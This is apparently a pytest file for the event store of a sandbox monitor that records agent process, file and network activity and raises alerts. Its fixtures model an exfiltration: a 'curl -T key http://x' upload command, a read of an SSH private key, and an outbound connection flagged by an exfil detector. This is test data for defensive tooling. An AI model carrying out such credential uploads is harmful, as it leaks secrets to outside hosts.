from __future__ import annotations

import time
from pathlib import Path

import pytest

from watchkeeper.alerts import Alert, Evidence, Severity
from watchkeeper.errors import InputError
from watchkeeper.events import DnsEvent, FileEvent, NetworkEvent, ProcessEvent
from watchkeeper.sensors.resources import ResourceSample
from watchkeeper.store import FILENAME, DuckReader, DuckStore, StepRecord

PROC = ProcessEvent(
    ts=10.0, run_id="r1", episode_id="e1", step=0, tool_call_id="c0", sandbox_id="s", source="proc",
    pid=100, activity="launch", image="/usr/bin/curl", command_line="curl -T key http://x",
    argv=("curl", "-T", "key", "http://x"), parent_image="/bin/sh", cwd="/w", user="root", ppid=99,
)  # fmt: skip
FILE = FileEvent(
    ts=11.0,
    run_id="r1",
    step=1,
    sandbox_id="s",
    source="fs",
    activity="read",
    path="/w/.ssh/id_rsa",
)
DNS = DnsEvent(
    ts=12.0, run_id="r1", step=1, query_name="x.example", answers=("10.9.9.9",), rcode="NOERROR"
)
NET1 = NetworkEvent(
    ts=13.0, run_id="r1", step=1, tool_call_id="c1", sandbox_id="s", pid=100, activity="traffic",
    src_ip="10.200.0.2", src_port=40000, dst_ip="10.9.9.9", dst_port=443, app_protocol="tls",
    bytes_out=700, packets_out=3, detail=(("sni", "x.example"),),
)  # fmt: skip
NET2 = NetworkEvent(
    ts=14.0, run_id="r1", step=1, tool_call_id="c1", sandbox_id="s", pid=100, activity="close",
    src_ip="10.200.0.2", src_port=40000, dst_ip="10.9.9.9", dst_port=443, bytes_out=5000,
    bytes_in=100, packets_out=9, detail=(("conn_state", "SF"),),
)  # fmt: skip
ALERT = Alert(
    rule_id="detector:exfil", title="Upload after a credential read", severity=Severity.HIGH,
    attack=("T1041", "T1048"), confidence=0.8, ts=14.0, run_id="r1", step=1, tool_call_id="c1",
    sandbox_id="s", action="kill", rule_source="detector", tags=("file", "network"),
    evidence=(Evidence(event=FILE, field="path", text=FILE.path), Evidence(event=NET2, field="bytes_out", text="5000")),
)  # fmt: skip


def fill(run_dir: Path) -> DuckStore:
    store = DuckStore(run_dir, run_id="r1")
    store.start_run("r1", "watchkeeper run agent.py", {"policy": "default"}, started=1.0)
    store.add_step(StepRecord("r1", "e1", 0, "c0", "curl ...", started=9.0))
    store.add_step(StepRecord("r1", "e1", 1, "c1", "python up.py", started=10.5))
    for event in (PROC, FILE, DNS, NET1, NET2):
        store.add_event(event)
    store.add_alert(ALERT)
    store.add_sample(
        ResourceSample(
            ts=13.5,
            sandbox_id="s",
            pid=100,
            step=1,
            cpu_share=0.93,
            rss_bytes=10_000_000,
            image="/usr/bin/curl",
            interval=0.5,
        )
    )
    store.end_step("r1", 0, "c0", exit_code=0, ended=10.0)
    store.end_run("r1", ended=20.0)
    return store


def test_round_trip_of_every_table(tmp_path: Path) -> None:
    store = fill(tmp_path / "run")
    store.close()
    assert store.errors == 0 and store.rows_written == 10
    assert (tmp_path / "run" / FILENAME).is_file()
    with DuckReader(tmp_path / "run") as reader:
        assert reader.event_objects() == [PROC, FILE, DNS, NET1, NET2]
        assert reader.event_objects(categories=["file_event"], step=1) == [FILE]
        cols, rows = reader.events(
            categories=["process_creation"], columns=["argv", "user_name", "parent_image"]
        )
        assert rows == [(["curl", "-T", "key", "http://x"], "root", "/bin/sh")]
        _, runs = reader.sql("SELECT run_id, started, ended, command, config->>'policy' FROM runs")
        assert runs == [("r1", 1.0, 20.0, "watchkeeper run agent.py", "default")]
        _, steps = reader.sql(
            "SELECT step, tool_call_id, ended, exit_code FROM steps ORDER BY step"
        )
        assert steps == [(0, "c0", 10.0, 0), (1, "c1", None, None)]
        cols, alerts = reader.alerts(min_severity=Severity.HIGH)
        row = dict(zip(cols, alerts[0], strict=True))
        assert row["attack"] == ["T1041", "T1048"] and row["action"] == "kill"
        assert (row["pid"], row["destination"], row["severity"]) == (100, "10.9.9.9:443", "high")
        assert reader.alerts(rules=["detector:c*"])[1] == []
        assert reader.alerts(min_severity=Severity.CRITICAL)[1] == []
        _, flows = reader.sql(
            "SELECT dst_ip, bytes_out, bytes_in, app_protocol, events, step FROM flows"
        )
        assert flows == [("10.9.9.9", 5000, 100, "tls", 2, 1)]
        _, res = reader.sql("SELECT run_id, pid, cpu_share, interval_s FROM resources")
        assert res == [("r1", 100, 0.93, 0.5)]
        _, detail = reader.sql("SELECT detail->>'sni' FROM events WHERE activity = 'traffic'")
        assert detail == [("x.example",)]


def test_batches_are_flushed_by_time_and_by_count(tmp_path: Path) -> None:
    store = DuckStore(tmp_path / "a.duckdb", flush_rows=50, flush_s=0.05)
    try:
        for i in range(120):
            store.add_event(FileEvent(ts=float(i), path=f"/p{i}"))
        deadline = time.monotonic() + 2
        while store.rows_written < 120 and time.monotonic() < deadline:
            time.sleep(0.01)
        assert store.rows_written == 120  # 2 full batches, then the timer
    finally:
        store.close()
        store.close()


def test_a_bad_row_is_counted_not_raised(tmp_path: Path) -> None:
    store = DuckStore(tmp_path / "run")
    store.add_event(ProcessEvent(pid=2**40))  # does not fit the INTEGER column
    store.flush()
    store.add_event(PROC)
    store.close()
    assert store.errors == 1 and store.last_error
    with DuckReader(tmp_path / "run") as reader:
        assert reader.event_objects() == [PROC]


def test_big_batch_throughput(tmp_path: Path) -> None:
    store = DuckStore(tmp_path / "run", flush_rows=5000)
    t0 = time.perf_counter()
    for i in range(20_000):
        store.add_event(NetworkEvent(ts=float(i), src_port=i % 65535, bytes_out=i))
    store.close()
    assert store.rows_written == 20_000 and time.perf_counter() - t0 < 30


@pytest.mark.parametrize("make", ["missing", "empty_dir", "not_duckdb", "foreign_db"])
def test_missing_and_foreign_inputs_are_one_line_errors(tmp_path: Path, make: str) -> None:
    target = tmp_path / "x"
    if make == "empty_dir":
        target.mkdir()
    elif make == "not_duckdb":
        target.mkdir()
        (target / FILENAME).write_text("hello")
    elif make == "foreign_db":
        import duckdb

        target.mkdir()
        duckdb.connect(str(target / FILENAME)).execute("CREATE TABLE t (a INT)").close()
    with pytest.raises(InputError) as info:
        DuckReader(target)
    assert "\n" not in str(info.value) and str(target) in str(info.value)


def test_bad_sql_is_an_input_error(tmp_path: Path) -> None:
    fill(tmp_path / "run").close()
    with DuckReader(tmp_path / "run") as reader, pytest.raises(InputError, match="query failed"):
        reader.sql("SELECT nope FROM events")
